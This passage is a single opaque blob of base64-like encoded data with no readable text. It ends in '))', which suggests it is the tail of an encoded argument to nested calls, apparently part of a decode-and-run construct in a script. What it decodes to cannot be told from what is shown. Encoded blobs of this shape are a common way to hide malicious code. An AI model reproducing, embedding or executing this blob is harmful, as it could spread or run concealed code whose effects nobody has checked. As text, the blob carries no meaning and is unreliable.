3aXf+HTj7eoci7iwb4deaie+MRp/FlUtKJDuxgHKMf1xdRRNTWsQJaRsnJUtuWDSO1HBuCQf8fRELrJTW/RZAlESkvfYhbcSKjf0+LLPxdNwlpcHS9d1kDvkN7MKsu1yUbU++6x7ovpC2Q/r5CvxmNN43scAFjrHsaQJU7liKUtJLKjblH96SWy+Qrla0pV/LUcRANqdQYB7f/tkwaiQ7UmRw9EXC5c9B9a0B/Krm390xqOTyYPJfE81cU48NsYq0ILhN5rzSDKT4Hc4xseu0H06THomYlV9cg2E5vyVbNvDYCi3LucDF8vwbtlo9bTQLdjMMn6soN287JJTq17xz24MiO5UMee5NQGFYwbA9LGX6TqnU+ZufUuvxXuDl7GBxTv6TBbuFctorRhngCnU239mTWMiJQ+nqSfKLbn2htqe1wXr3CP+43qP4h19dqIG7GGmsHoO6Dlwfg0bdh91jTgVJOtGYhY884cQyIDGG63P5751jbb+RDyzGA+9qyvjNRnsxoWYRFHEJfVSf+qg1ToSiBIBtUyfgiXytPLL8LZeclZXe1r0mdGYiWmd6kx/Ol22K2136WwfUgdPwFIXEhar3sz9RjY7Pw5B8FY4W/Adp2Qs80AlyYR2dIsHT+4gHf7aVWWvQlid7KI9xJqWTrqIgdL6lMhhYQTc/zRA1HHghFgKeBf4oA4ufcePFNstu15QgjsVonmkze3ve+wb5tgGIjKUfThMkFh0MBWPsTKCb4yfZsluJvjIkJ1W5Wpb0EbrpdI6I3iRB5wSjOlLCsCyzR8/QEQ1BJcWnxpebeTMxwX/3QtGEhmA08LS7nt61c1fd6eZZq94EorNUjA9tYzR3GBw6fqlzKEm8OL7jSgYv+a8s+lKTmNtdThq2kM+Q6bCDRIo5fX0RokbX4+JKUxewdcd2+dEC7aiPFTLzzcS4WvKkkBlYiNt7/2WwEdbRddyBnPhAoOP3ET7Fn8TlG88Y5Xy3z4ZIxxBYRriooixSuXlo3Zk9la6seMZYUGzLBbvP8hF3fKWM5ak2yxPG0erTr2Bb4c4ak0ER0R4tuxbUZBe+f/jFuFvlfi98ywz5X3CT55sFlXYgWuvm2p7sypmQAQ46pvlbygdD8VZhSrY79si5XfoswtHEPSUmk/l2y02pyrI1nyNDnOEK8N+EC81k+h6rij/W6q4n/h6n3pTrHa5AszKkbOmb/hw79BAis2t52zky9Xqi5gNTUFyc51o1bx03tf5RojLf5J/7LZOHlQB4wTp9DMGrZ7yXt50mfFitYm1qwTfwk4+We2l58U2tpYZcUjCFMU10vR9xZh+OO6YYG4LrvhEJud45eTWUJc7ztfRYfDnvH/l0TbveXWTNA/6ScM1zjmDKmTgNZMfMqn8BZuEaKe7ObUQSSx9fLNuoZt5BzD3nuos+XC/HQfmHEvfXBvUX+Z5GywyCSLhOGzEJe5tfPbC7seOLVLo9aeXRxDOFLkvSVk1fPq0TeUsYw9d77CbKTYfb+yBkyMPmRV4BXGAky80dy87LdD9xAyLc5l5wYbwHE5stPpzFePMr3IXVy41H8XR4r/9FM9XRbnxjgh48vMPvZR32xDObuCF13OMj6rEYcvY1yZ7vNHdD/E2nAaZgCsgh04rIle/Z5u7OXEdfIgGOH/BE/qzeTYNVfgk/x3oKjHdLwVmIm/x0IBjM+7Gp744nFtfavRBWnY3uz6qhz7WWFLa97TUCjjM5LYqyRpg8yudP8G4Ovj7rjteosfXSr8Z/03fzoBS8QPQJEfXaYXFCLSXTFD1Kffx+fRJ2+s7l0WXvPTf3Qp4BKMUT0vOloa4LDZkFD9XDPuESH4VF0sYVdOMcMrxQwTfrr881T2N2cb2QsiA/LvdSG2iqPu1elsiNA35vy0tWYpke4qY4Tus1POVmSmILKeeRpafGLbGqR9Yp67jT/0keRCaRYitc9+aU7aCdTEh/t2g1aIA3vzy0yRWqUDrlYQNXevVyf8RKgIJE597ThpSvVO++whU8MFrizOgNZanWfOOPUVIMP52tAAZYn7vPUwmc9boRKNGGeYcFwXC5thJA/s1PZ4yHrMVqfRhW8571XAUpvQVuokipmPAgqCbW4cyXZHCbE995ICOG79W/GPuooZ4De775Xyllsy+npw05GNrx4J/jLl3snLSnXqInwkZDLDQEUG2Ytq8rukxR/yofzH3y8DxY+mzqc8KiV7WdV3Xoe75LGptJzOmV03Q4K2ofjCBsym3w5k2LzLoFFvSinPA7CkXt25za9WDtJw/g24TuCuEhYYYMwfqx9YxdKPzYk0wjS03WqAieJvzyxTLrN3ZK2EbzW/XnBI1RAPtkDjm6YY7hewED/UyoUxxhSNjp2XJJkfyDHEC/kTHYenkD8FmqdCrck+1Tr/DHWwjQrFbjsqfGePZN/3pJeFjsGgPtYjvrlQOHUkb9utcM/dnekTUaG6p5n0ZRM/weEYp0xUrZ1XeOldrdXkf20015FSDYrJW1oyxK9Fjd/mlVkhCDuUw8jB1LLbiiCZ6LWmhvJ33+Q/7lq2l0jDCzuq2UVQHd/AoGlQTCfOZMPf9aMkAxubstpeFdBH2EP91W+y34uziZjZOfhH1ly+pnFX8jAWg11MMMncnHOb63ols+m2t7g2rbEKDvsDUJfciItOyT2Gly+tYN37pmdsMQ12LtLmHAklYp9GIu5CJ1wGbHDk1okGmVF7HyRtjKUZDCcv5KPAT0fu83zeWBUHDZ+nGxjtsNXGa48AKrxemkUcZfpBYs+oWjcSkUN70PDXKTrIjO3fxTbfvPzSStRiHnSaBkPeAxLI1nC7mUQmIETOv/boX/wJM7OSZW6k+SrxLUvuxY3KttZTCkqGxE1kjAneZAG1B0c/Zg6VWlmiIa2uCzN5grwbM1wQbzFuOUBPb8Z9PaP447Vvqb9e67hneeiNHspmJF/AhZKHpnlTYwTzN9uD606ToM12da0Qxbl6HpLrOnKzc4RvIT0IyWv99x0tguVSAuUUmavLhbdmdXv0+7uwzcQJ2Lq5bjkW8yZkvMR+Xmw2e1gbpCtvARJ6jNXoEyfvwzCVgN9wEnJWTaAjkA+gLtkwY4aLDm8UlTG1OrrJC0I8LaDALQWDuXpvRzQ9boRTiPW98jUAaLFZScSYo+t/dapF2GhcvF/9BiFSgsvDt/e9+dr9/RPq5adclOppP9GJIn37T1Eo7ev8JPbzJTIVOZI+GqDJuM9SpZEH0nVyjAqUFdpnxi7pqdEXrEeRtLgUheYZ9mtFo92/ss7pgYGm//f+mkbSKYroW28ysCjGWig8Ziw/gwMdkv8lht6R2g6kfW6xug9GfjiTBECe22AnkfOYDcy7YhJ0MZXVQqOUlTKunh/AckwkT9TgJR9hkDdYQtoqoj3zLo+jXfwwJu++dk67HIvYlAPR6i62LCmhYn+rAsJRwvRcXwT4qIA38HCwHM83s7fUT4J9R1O0wIfyT38KROcDPiy89ztN4pHnHyEH2GFKg7bjYNjTD/3iiBQXrh0Xn+gZCdnBLOEvvgzNmo739Uwa/N/wIkbXbl3h7PMDRm+UJwp3L/AQ0Q2tSkfTPvcpRe2LtZdZKZWXPO8bVVB4wt90mb0xmnjVcRm68BizKT+dPNWnlsg67nxT5IALryJSxluKh2yU8ciVM/dOs+Pvu7J6kbvJc46Xxn/aKgFV4OFRlEDlMFh64tQ7/WRLJL1lKbvxG7cSzH0GvYcCJUU5XYjL1KZtdNzXOPhQjMu0yOlZKIgo+xlWfiF0GkIHB1U7WEySOUmbw74Vs2A5GGXDwbJKdJRfh2GQedlpD/hr9GE88Q5xmOaRNszX0QuJdfnWrzQq7wji1W9BmBjAYykWrXdW0xZ/dvUkN/swhZDCs9ny2jSj3GrBPSRK/0rAm/6T/GU34QlfAdXiNBAB3ixoKj6mH6sBXBSFTVgGjz2VUr33bEudMnMZAc70Ukn9MF1+mzX/hY3KnIfMUT57bBQ7AfUUp8YgEMNMgoK4j1Zp7zGWZukj19mH4lKBcf0lnqAbVTqL9beHwg4/FF/vFNgTfudoGvRmsubAq5A1vxaKj5a+4z6qs10ADOjz4ekyYLgqNOZfea7524sAqbIqzDFwW5dgN8TGmc6XSNu7v5Mi7MJ7lngWxXvp6DgUkDeOy0T60M/7w1Xi5P0QevSVGD8AcoK2AL2eido4oxQdfeNF4VYxg8D8SJN6XAJJbtFIJv0TWjCuI0Hn3ygPuAwmjf1BjURHCnPm83oQRhFKbkSEHBGjPSWTVDAxGYFR8o8OJhvrzVZUfksphPJWB6iNqJdCaaoGvHO+0BZ4PTbl+0lVd/s6S+LLZQL8dP9/WeloL8BOzvv+y2ihiPMyhyW/kMwbjrRfx+nv2NooyLZHBg7GmopjgrsqBDvLkSANNqpuYxGTxSEQ2AsDjVLfc0rWf30jAY9TMwAy08stmOFUoAfd/x7JkhQ8JVnTU+ZYzvlSjWGeQ+ENH5UpwtCFupzZp/WYfF/xra/8r1bwOZ2MWkzKeQ0H/nB06VtUb396Lbrl5le7tdxCjB4BTv+Hv0H0k6gbicE+mBOwHEUDijHt6EydOitT6etaZoNfN2H1UHP87ndZgW+oJo5xOemeRyJPYNc5N0SIIREJ6EVO9y+UsJlzD5RfxzO/c++tF/gjWVsh2VhlFE/YlJGk8Q5cCLao7RFc1pthnN4Co+O+rm9LEbiVyUJ2cSGYS2RgLe+aJoABzRB5FnAu1zpX+wNQNTwGxt7QMCYznyr4fRqx8InxIjZpZ3DTJN5Ku1UMxOlJHu4S6Tnklt2DpjDR/MOt5vUx/LkUVvGJeVAxyuHUsr1E74u3naLg04X+ilik8mAlO/IliLw4OeNHyapgr1wsU6GS0/s92sUvAvnsOYrJPtDlGwwLIpL9WxRky4K0G72L2Xpk57cTDjpbu1FJ8APA4J7vGCppzSIV/apNt6YFtie2L8ew8geczIK2gM+BTMQFY4vK8mjIcJokSNaMWsWjj8pcdm8T5E1zS/3GX/8veBJh74sDB58f1OhRp4AJczGF5sLyO+jasajDVLz2LFli9tPapO6CGPpMieOMYuVbMumLYsulWvRNcNcUrY8mzLloX+N4ZGhXciNqNBGLpjJZ6oR7QFs1yq9Vo9GyBAM1bPsUIKeyP3mDJMSF3ERUJwHlrP7tRHwtljul3XcW+JTpDZsp1owo2ZRUg/wyJSCuIDn775CVaUwBqJvROD3FfG8h6sZqoUbDtvlceCmdO4skBe3P4P5g0UgbLIfdhox5/gNlyuwlzRXvCMMlCuSLxZ9DNDSYBCMekVkiUdYmupax09YygJnnd9ulPRtsT4MBXVddAj8nYMq/M79Aij7q7/6MOgd6cA4/6WwQAKXdDl9doyMNTcmRIdlFB+9rpw+WqIEmjFcrtUWsy2MF/ZTEw71hnYpn2+0Op8cB1av9ooPC8lCkWDvrXkU15yFHiwF7nN0dc0Eyrv8hzbQRHswzJImVL3oddLClAzvVd7dgCWks6rBLHhDUamPMDRwbmpuw+taXZgfNsmCdg6KYao0rZ4+l+/jAopJfdsu920uIaNq1fhZY2Xt0skmaDme7mbU1LmMY86152jUJoJGvApqfM8L3qf6i+tjb8ftb6LgEqNFX7mHgN3Il38NVPGoUD/pYrnGC0a+1l1B3pT+8v1Ps3m9HO+n9mUZc8tD/cj+zwjYIgprH+iZPOngAbxUGsrgWtKWKPUGKxj8tn4EVwpwvlDzC7Lex72vbIR4UDumKL0Has6Lv2PqhluU3HKUOx19NYjyoDGELdkMv5BIK3aPKR8yVF3uVgso3V2wysJyXfpN5sfmdyTkThXdDmHZAttEbA/Y3frtZivpLTqoFizci2q9jU6rt2ms7ABnktbTzBpO8rJ3pnvk0bXla7avRxTPr2CwjpFFayBpBZ+ap4TOznwWtnBjhVL2cotOU08tbUnXURV661kAdd1p/fkQkBWVzQUCLBs14MVvbho8DmNO98BsU2DiNJjWni1i4YPh0IxMQLslLyPrN3FKkuNChq3i8peFHPNgQxYrOBtJdsUb0S1WeuRjm739FhlPSvZNCDgIaUZXsbuz9U3IOSxaK4t7nt/fNOEOoJi3VPr5PcZteDzP5MmUqI3AroPr3eZF28j+BpgtLCbSoBHLAurkoAquojFhPhRAmcruzLT+YLT7l7bvA3WM0FbLp4bDuWyoggH/6iqdTJiMgmrFj52FNa9mUdvD7g3g6h6KS6kUmTvNFLf6lZb2Dxqvek+eWJIm02tUW2RmfNirsLt98qrZBb0fTZzZyLLexM2csCV646eX7gpGN0FohLM9zeguwwaL5JAjBc/WSxc8o+qwe9fmKzENd9kEV59b981ukt7M9+dkiTbEgEnQYXaSbk0vHCFcrIjeQzzu85ezDnJYKfMgUriyf2EIKja2OmwcKMVAZlmskwlXbZ3Mf93O5P0Pkbx2afn/SHDxYx/Jct3rHObkMu52IIhF3NcmIlZvJV8VGIvUdUB+8O6NhPDXq2pAgGIIOvUvHQniT7DXYiF21WIhhrjlP5hLbb39omEdPojm9AbLkIhQTWSUYVnYT4Fz8LkTEH2DHbVZavRmzDYq9AyC4pYpm9+VAB3EJte7hlV+NZZuE9mdqMyo6z6TbG0D5w1EaKKpdh7Ph2USjiXCOPWqeWqLImikUeL6E6tKwOU8JKUrQSga/emivYJ480pROD/7KuDbmYHJ7B+8Qx5/BblsFwugvwkGfcSi8d0izTMWCrosJzsMyRyl3lmiwakDfzGWS8Idw7RQRdKou4X7eASmLnAp5+xNWzkVsRP0izQp3fT+fcxpeNalEvOwLhCdLxieyduS4mFdlXTOubwhF+X/1mD96E1mPoB5WAZI8RfoyiQSunqos84aPK1wg/lXwnD8ft7DwpvVWHRU0RE0euU8XDo3tplKXLY0lx6cSQ+9PWLf8aE3v/sArUKcmHyyv5FRKStXU+lnCUmV6mMCSzx8Jy2CiHamWN9ahw7LOHXOrH+D+CLiKyu0Vz+AoVdDo5hO15Fnb/P214M/4RnQyjwvhME9P25UyFTXOzcBPRSftdQk+eA1mB0TAEU9UEhO47XmdSO7tTWK+XNFkpgtSJP0Vgr7djnJDRx4n2ffk5bZTFD8vOcg9wTXmuXqQLlzS5qKckkLxcbQ89QZ8t9xCPRP6ZB6uct4HdjiMKg4Nzr1cdagd3XkbqwsP6LIX881BH5P3eB3q+kBKCpLhEmF6hq40SJTcMssc7jKOSUiAENO9p2SKQ55ff7bi20409HACH9l8TxLVp5XsQ8/BR4Kw7wJj0u+CEyb103j86MOhmwh2Wju9pKKqHlKKSKpUbT0U01XKe6iFmNEQiiRFGp+dLjN7z+qLBzFzuY/1NgTEGZbun8s6vg7FHc+TfJPSeTcmsBQv5lG15oJRIYRAqz1Hgn3If8wbXYLWznFsdD7mANxTIGkv2AtTROaB/sBS8qrJb09P+W6eh5a18NGjTIqWcSIP8L0HFepX7ZDb2InkRyfDVIF1/6BruryUlwayJGcIJaC9rySC78qgJ3z9+tyX6tTS76o0sGWRuENtEQSBB9UYWNFGNg0ij0+8DvdW1WxpfBEPFoEqKrL9reQixqxZsZnnxsuCXUANgfdQbBlHUTOhqQOvWj0+BEDci2QaYiaW6GNmKj8JnEDPIzWhGP+2KjFsSZh71NEAa1QHIIQUX2xrs9gJqBtcGhiK6P8wtW7GyE7VEvbCaVgf+nzuO3WxWpKP0spFseSJEgtf9MbFK+0IhlgGqgleddC0mLt/T7N17R9T7pCaId3wfb0KtfLt+aajHFg1fSVertW3QaFHZfRzR2Koz4mZmTVFduHDIaBQuf8pZJsoRogFwF9MC7H5nCZIe0zggv3iWCtmsRS40Bn9EvSDWgrUO1jepUdn5JKpPvt79cKkCcuM1rcab/tk11++Q91LYKJ9JupyHG4LYFcShj4AqLa/7AWHzHbX+IdvM+Qulg+nHgRq2LkKcvQQLS+I9pjsyS3iAx6yfEH94ekaTswsgfY5JgVeMAbu8HvEoiqvrwFnKvtIWiOT2N+8DB0VFWphdR3OtsXr0N8xFcWhqKzDlWA6A36l7JjLeZAamVxilwmdbPo0b32E0ewdzkxxdbuGDBg+cF+9RnZJIqOPG7f6UHLxwsFl+liMAqm+LPGIVL0TeXIyU2byF2MjG4LfCRU1hvEJIK3X7dxiODIE73IGZd7Yk1x2LgQ00Yyvkkk+Dau/YwzMIXBXFzsmrZemmOgggeF+Wv/pmWkek+oNIxUMQEm5HKaxMKcLxNpV9RoGKe7JeLVShr+6rE0jYNf3R2qnpcLP7rhMvKHOHKAsxln5thujv8Wdtv/9Mi6l2OEE9xol7tRvlK1h43XjlTfdVT3PJHleiJkIGfHvGEMr0AmLdN21FcijIC2ORNOPxufsShXPoUQGc5DmE7JWu+FI/PoaDK8w7ItXOwtDc9mChZ+UX5pWNv5gfLa78DSMUtxN7arqXpeRv+xwV+jA6vv4umcxaG4IAD7uuRlYRkp8r7z/7I9uCOQ05vHsJP4q6VsOyxfdxxB0/AXyMLYe66VHFM7xpkrNFUxnCXs21YaRll7sIV+ljjaawitMYf1Y7W310L+kZvtXu6NBT8HO3WH7NM9uX3BPeEBQlAHzUrQjIRl7dk0XhQ9yXP/iDq9zIuCr6el+rqiblBQdK9Rv3CatOmSC3psvBY87IXm3Qxg8XGSSqioC9SUc8Fk4FZWjjMCoXEIJX5DMQ8nq7+9eNBkReLli5hQYz2Cok0+tTLExMYovO7lS1pGkYQzuUOXxGkyJHUgeT1ieqj95dXeM5ZfE8uOmrYFsLS373EXadZNaIDIMPUUXWbCpqJK08LsisqEhZ2IlkhLuAZ5R2urtoN8frBGelRoInl5CQpTqpAnTD7p0VnbvvFX2iQ4O/Ufc474hIlXXIYJ+TvtRhR4XLu4jdYY4vx4Ve8QBYu+ASe7iqqVBgbZrrZdqAebeCvONk0TSbHWuVLO8PMK2c/H7saUT0T3ANSS9Jvulq1CzTTz3fUV7LGSh9nTep5KTPwE6qQelLbUQvWVgyRIvSQDhAuhSaS0Jmbe/3mmjAzirHvp4s73Xa6Evam4fe9cANv+GCmGkZBzuia3ws744dbjvluK6J09/m8qbNWLopDZmoH5UWrWg9bbLV2faPZXMAZqJlmgadt7xt78YVa2m74bIrMlWDqDNRpneDv3/JJKK8ldkSiU1o+QPcnZ9WciNmEBfUyDwkf0CY2Iq5ro8WrUnhm7XA3+LdFCdCY1QLdzjb0AauQ+cO2KnzvjRUCVqOk+HuE/BOPL0bToMm5vquqdf9Hf1JhrYQUofpMs2kvVklRLvnUP6cQD36poRxmoF8+zPd75JTPNbH/Cgu97O9p5w6+yKP160w7dOpc8nY0HPdatLizuOnOLDpSzyoQKQVUbGF2ZyyiWLEBdbeVZ2/tTZUimY414rXLeLwDias0JHM29Zij7WENBx3QEEtHDT7XvBHPqy2DqZoPkIdCPJFpEc1S7zfWW5lvDodllmErLaiRxOEMhg4A38+2vX18IwgVZu4T0MqWNr9lTXLoafhg2Dsp4q1Zm+i8egfpZ6EOtZrKm4RGNiMMPXnvTkhQAMmSmFfQ9EakwtaXNxDWPZaHDXgj04qZLHIigxi5nFUDmDOfzKRY4i9xLYb4Rct2UkUVn7H2biNJhwDNh6F3Ay3VWET9ZDmoqFGpG+NxG5A9C54qb9LL6LdtvwMHM6t/AVVgOaM+QSQ45ajPbZCSUR6R+6EIpTYQncnAPa2dmhNUmPxOTI1TJpEeCh9N9wGdkzcWSbpwpGBLGCL4ibZcT0Ho6FQ2VXvUxkQLFr/adGG50qNfn0WvJGziq7+S9CHY62KRtHYv92F1y2Ypd4/eiNNppCT4bjyASK4dX7KoZdWLgEHKO/5NVwToYCrRlVjVAnV97sX/bpX/bgeHZPeS75QlseAkaoGWDwD2F3YOZBL789ayPT1jZuAOBVmKxpgN2PubK6D93FHqo3dznKEFI7m762ywIGa58Wk0iG9zK2cMKLAap1lBWggrjI9aVrB3PVh5SCj+lvUD0bexA/9PcrNCDZXi95iUJ7Guh2WzqQy6/srV+EYVa1bIJFt/HAr2zBonEq9si84Aaul/kraiVMpEFnUDTju/NyBOlcfN01I/UqOiHCRJreSrOYyL78Mn+X0YEzY9+xsPlG32zDSF8PrmUJuyHpz7g9jWpmFuyBZNPR8dSVSV6Ezkn/dL0nhCYcrCIrdDFrx6A8g6oTNOUGZWrUnAKKqzALhEhXZ0BRPqd7XuZfUHAJrGmn1oboJP7bsCclIoI0r8XoiUDXAIsO3uW8OxxypxP6ANMB0xeXSYdK1Y0Dh6ckTXiY3UsbA4aeCI89Rdnpc48l/Cd7Na6T9wPa4TwlQCsIo6+0FYfmtoHI6VEXLavDdgjCna2tOwYdx7HdjYyh5kUQRYz3qnO741hMtU93UL5I96hzZB6aStyiT+HvJXEWeaCnJNL7oZD/2tFRRROh1wvZV4jjiNwJbLI1A0urY4mG2CeMhRfawXhcG3cqG+JHk77aWGHKS4eFEDddmyTBQ262z67zkXDzgQ3SeOjr+iEi6NB0tfr/YBKlG6StnWXJRBfybaiCU30FcnrrzJctHQn2zCo6UPaxZmUvY5ePVJf/Cc/oz1vTrU+e30KMzTA+9HabAVLZmoscxPayhx9j/UvCzFdENP9xQILY+HKVfQNxzjQ7lnlXRid/u0yiVHd3wy6Q8+xIGcjP5O4BjMPgEz11opKbXKo6S1F49oKWS/TxwH7UhlVl6nkXl2v796RfpSXFa6S3kqNvv8kHRh145GdI52MlZcbPcaT5QsAUOZ5NPvV2vuKsH4dJiyD9cJ/ap+XqWSoz0t6RbRNjOpHP4Szzt6mtH7cFmJmpHjqGOv0uN550n2RjRHMLo7sOH53jYAuBmchosfUQGRtL/KyLSV2CwKmZZFOcD50+94mYM/qgvSIrSNKcZHI81c3lOd82KsruuH8ZEyK8D1teWgK8EuZ/b93r/TMb7PHZgd0fJ9kowjEFqo00/kDcnPNa0TUlqtIxPO7lyJoL/tCqecEOtxiW/vbo8FV1GYBiOURaBbMONLP50kI1nf27rA4AnAagB9LU2ZZYiKDw1YzeVKLzMHesklsnhjn1OSebQVEsZ6kg6yGMXrq054eCD3CGVWUB5yuyLFPM7d88SUABggFIulUhDi/L7//+e/+/P5dVsE5Uf/fTvEqSTCSqW/8499EKQ2g0574Vo3BYx7n9hRSA2qSermUwJe'))